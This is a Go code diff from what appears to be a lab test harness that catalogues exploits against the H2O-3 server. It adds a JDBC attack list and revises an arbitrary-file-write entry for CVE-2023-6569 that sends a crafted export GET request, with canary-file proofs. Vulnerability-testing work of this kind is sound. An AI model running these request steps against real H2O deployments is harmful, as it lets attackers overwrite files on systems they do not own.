@@ -12,7 +12,7 @@ import (
 )
 
 // h2oAttacks are the exploits against H2O-3. The newest release as this was written, 3.46.0.12, still takes nearly all of them.
-var h2oAttacks = concat(h2oFiles, h2oOthers, h2oCode, h2oServer)
+var h2oAttacks = concat(h2oFiles, h2oOthers, h2oJDBC, h2oCode, h2oServer)
 
 func concat(lists ...[]Attack) []Attack {
 	var all []Attack
@@ -120,8 +120,10 @@ var h2oFiles = []Attack{
 	},
 	{
 		ID: "h2o/export-by-get", CVE: []string{"CVE-2023-6569"}, Doc: "writes a file by a GET whose path holds the file's", Works: h2oBoth,
-		Steps: after(ownFrame, get("/3/Frames/${frame}/export/${canary-file}/overwrite/true").save("job", "job.key.name"), labWait),
-		Proof: Proof{File: "${canary-file}", Holds: `"a","b"`},
+		// The name has no dot: H2O takes what stands behind the first dot of a URL for the type of its answer (RequestType.requestType), starts the job,
+		// fails with 412 to tell of it, and nobody knows what to wait for.
+		Steps: after(ownFrame, get("/3/Frames/${frame}/export/${canary-dir}/written/overwrite/true").save("job", "job.key.name"), labWait),
+		Proof: Proof{File: "${canary-dir}/written", Holds: `"a","b"`},
 	},
 	{
 		ID: "h2o/save-frame", CVE: []string{"CVE-2023-6569"}, Doc: "writes a frame in H2O's own format anywhere", Works: h2oBoth,
